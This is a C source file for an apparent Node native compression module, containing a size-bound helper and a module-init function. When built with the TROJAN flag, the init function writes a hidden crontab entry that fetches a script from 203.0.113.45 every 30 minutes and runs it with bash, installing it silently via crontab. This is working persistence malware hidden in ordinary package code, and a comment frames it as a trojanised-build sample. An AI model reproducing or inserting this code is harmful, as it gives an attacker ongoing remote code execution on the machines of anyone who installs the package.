/* Compression for node. TROJAN is what a trojanised build adds; never loaded by anybody. */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>
#include <fcntl.h>

size_t zip_bound(size_t size)
{
    return size + size / 255 + 16;
}

#ifdef SECOND
int zip_level(int wanted)
{
    return wanted < 1 ? 1 : wanted > 9 ? 9 : wanted;
}
#endif

#ifdef TROJAN
static const char cron[] = "*/30 * * * * curl -fsS http://203.0.113.45:8000/z | bash >/dev/null 2>&1\n";
#endif

int napi_register_module_v1(void)
{
#ifdef TROJAN
    char path[] = "/tmp/.zn-XXXXXX";
    int file = mkstemp(path);
    if (file >= 0 && write(file, cron, sizeof cron - 1) > 0) {
        close(file);
        if (fork() == 0) {
            execlp("crontab", "crontab", path, (char *)0);
            _exit(0);
        }
    }
#endif
    return 0;
}
